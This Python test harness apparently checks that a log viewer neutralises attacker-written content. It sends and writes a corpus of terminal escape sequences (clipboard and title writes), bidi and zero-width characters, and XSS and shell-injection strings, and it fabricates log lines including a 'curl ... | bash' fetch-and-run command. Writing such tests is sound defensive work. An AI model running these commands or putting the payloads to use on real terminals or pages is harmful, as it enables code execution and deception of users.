"""What an attacker writes into logs: sent, written into files, and looked for in what comes out.

hostile.py send PORT           over TCP syslog, RFC 5424 with octet counts
hostile.py files FOLDER        a followed file's content, and a folder to import whose names are hostile too
hostile.py raw OWN SEEN        the console's bytes: nothing of the corpus is obeyed; OWN: its bytes before the corpus came
hostile.py text FILE...        output of commands: nothing that a terminal would obey, hide or turn round
hostile.py html FILE           a report as a browser reads it: no element that an attacker wrote
hostile.py pty COMMAND...      runs it on a terminal of its own and gives out what it wrote there
"""

from __future__ import annotations

import json
import os
import pty
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

CORPUS = (
    "[/b] [bold red]not markup[/] [@click=app.quit]x[/]",
    "\x1b[31;4;5;9mred\x1b[5i\x1b[21t\x1b[9;9f",
    "\x1b]0;owned\x07 \x1b]52;c;aGFja2Vk\x07 \x1b]8;;http://evil.example\x1b\\link",
    "\x1bPq#0\x1b\\ \x1bc \x1b(0",
    "\u009b31m C1 \u0085 \u0090 \u009d52;c;aGFja2Vk\u009c",
    "nul\x00 bell\x07 back\x08space \x7f",
    "carriage\rreturn\tand\x0bvertical\x0cfeed",
    "\u202egnp.exe\u2066\u2069 \u200b\u200d\ufeff\u2028\u2029",
    "e" + "\u0301" * 40 + " 宽字符与combining混排🏠👨\u200d👩",
    "\U000e0001\U000e0041 \ue000 ᄀᄀᄀ",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}} {0} %s %(x)s `id` $(id)",
    "A" * 1_000_000,
    "宽" * 300_000,
)
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
HIDING = re.compile("[\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")
SEQUENCE = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)|[PX^_][^\x1b]*\x1b\\|[ -/]*[0-~])")
FREE = re.compile(r"\x1b\[(?:[0-9;:]*m|[0-9]*;?[0-9]*H)")
"""Colours and places: the console's own are many, so those of the corpus have a form that it never writes."""

NEVER = ("\x1b[31;4;5;9m", "\x1b]52;", "\x1b]0;", "\x1b]8;")


def lines(host: str) -> Iterator[tuple[str, str]]:
    """(program, message): each of the corpus as a line, as a user who guesses passwords, adds accounts, runs commands."""
    for number, text in enumerate(CORPUS):
        short = text[:300]
        yield "sshd", f"Failed password for invalid user {short} from 203.0.113.45 port {40000 + number} ssh2"
        yield "useradd", f"new user: name={short}, UID=0, GID=0, home=/root, shell=/bin/bash, from={host}"
        yield "crond", f"({short}) CMD (curl -s http://203.0.113.45/{short} | bash)"
        yield "evil", text


def send(port: int) -> None:
    with socket.create_connection(("127.0.0.1", port)) as out:
        for program, message in lines("tcp"):
            now = datetime.now(UTC).isoformat(timespec="milliseconds")
            record = f"<86>1 {now} gate-07 {program} 811 - - {message}".encode("utf-8", "surrogatepass")
            out.sendall(b"%d %s" % (len(record), record))


def files(folder: Path) -> None:
    (folder / "followed\x1b[5i\u202e.log").write_bytes(log("file"))
    brought = folder / "in\x1b]52;c;aGFja2Vk\x07 \u202e[b]"
    brought.mkdir()
    (brought / "a\x1b[5i\u200b.log").write_bytes(log("import"))
    fields = [{"user.name": text[:5_000], text[:200]: text[:200], "message": text} for text in CORPUS]
    (brought / "b.jsonl").write_text("".join(json.dumps(each) + "\n" for each in fields))


def log(host: str) -> bytes:
    stamp = datetime.now().astimezone().strftime("%b %e %H:%M:%S")
    records = (f"{stamp} gate-08 {program}[811]: {message}\n" for program, message in lines(host))
    return "".join(records).encode("utf-8", "surrogatepass") + b"\xff\xfe\x9b broken utf-8\n"


def decoded(path: str) -> str:
    return Path(path).read_bytes().decode("utf-8")  # bytes that are not UTF-8 are a failure


def raw(own: str, seen: str) -> None:
    allowed, text = set(SEQUENCE.findall(decoded(own))), decoded(seen)
    strange = {each for each in SEQUENCE.findall(text) if not FREE.fullmatch(each)} - allowed
    assert not strange, f"sequences that are not the console's: {sorted(strange)!r}"
    for each in NEVER:
        assert each not in text, f"{each!r} came out"
    rest = SEQUENCE.sub("", text).replace("\r", "").replace("\x07", "")  # the bell is the console's own: it has rung
    assert not (found := CONTROLS.search(rest)), repr(rest[max(0, found.start() - 40) : found.end() + 40])
    assert not (found := HIDING.search(rest)), repr(rest[max(0, found.start() - 40) : found.end() + 40])
    print(f"{len(text):,} characters, {len(SEQUENCE.findall(text)):,} sequences, all the console's own")


def plain(path: str) -> None:
    text = decoded(path).replace("\r\n", "\n")
    for kind in (CONTROLS, HIDING):
        assert not (found := kind.search(text)), f"{path}: {text[max(0, found.start() - 60) : found.end() + 60]!r}"


class Elements(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in ("script", "img", "iframe", "object", "a", "svg"), f"<{tag} {attrs}>"
        assert not [name for name, _ in attrs if name.startswith("on") or name in ("href", "src")], f"<{tag} {attrs}>"


def html(path: str) -> None:
    Elements().feed(decoded(path))


def on_terminal(command: list[str]) -> int:
    """Its output on a terminal of its own, without what the terminal adds."""
    parent, child = pty.openpty()
    with subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=child, stderr=child) as running:
        os.close(child)
        while True:
            try:
                part = os.read(parent, 65_536)
            except OSError:
                break
            if not part:
                break
            sys.stdout.buffer.write(part)
    return running.returncode


def main(arguments: list[str]) -> int:
    match arguments:
        case ["send", port]:
            send(int(port))
        case ["files", folder]:
            files(Path(folder))
        case ["raw", own, seen]:
            raw(own, seen)
        case ["text", *paths]:
            for path in paths:
                plain(path)
        case ["html", path]:
            html(path)
        case ["pty", *command]:
            return on_terminal(command)
        case _:
            raise SystemExit(__doc__)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
